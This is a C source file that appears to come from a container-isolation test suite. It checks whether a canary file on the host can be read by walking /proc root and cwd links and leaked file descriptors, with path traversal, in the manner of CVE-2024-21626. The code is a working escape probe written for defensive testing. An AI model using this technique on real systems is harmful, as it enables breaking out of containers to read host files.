/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Reads files of the host, by their own path and through every process and descriptor that is in
 * sight. CVE-2024-21626: a descriptor or working directory that was left open leads out.
 */
#include "attack/attack.h"

#include <dirent.h>
#include <limits.h>

static void try_path(const char *path)
{
	char buf[64];
	if (read_some(path, buf, sizeof(buf)) >= 0)
		broken("%s can be read", path);
}

/* base leads to some directory of some process; from there up to the top, then down to the file. */
static void try_from(const char *base, const char *file)
{
	char path[PATH_MAX];
	static const char up[] = "/../../../../../../../../../../../..";
	if (snprintf(path, sizeof(path), "%s%s", base, file) < (int)sizeof(path))
		try_path(path);
	if (snprintf(path, sizeof(path), "%s%s%s", base, up, file) < (int)sizeof(path))
		try_path(path);
}

static void try_process(const char *pid, const char *file)
{
	char base[600];
	static const char *const links[] = { "root", "cwd", "task/1/root" };
	for (size_t i = 0; i < N(links); i++) {
		snprintf(base, sizeof(base), "/proc/%s/%s", pid, links[i]);
		try_from(base, file);
	}
	snprintf(base, sizeof(base), "/proc/%s/fd", pid);
	DIR *d = opendir(base);
	for (struct dirent *e; d && (e = readdir(d));) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(base, sizeof(base), "/proc/%s/fd/%s", pid, e->d_name);
		try_from(base, file);
	}
	if (d)
		closedir(d);
}

ATTACK(host_files)
{
	const char *file = canary("BRIG_CANARY_FILE");
	unsigned processes = 0;
	try_path(file);
	try_from("/proc/self/root", file);
	DIR *d = opendir("/proc");
	for (struct dirent *e; d && (e = readdir(d));) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		try_process(e->d_name, file);
		processes++;
	}
	held("%s, through %u processes", file, processes);
}
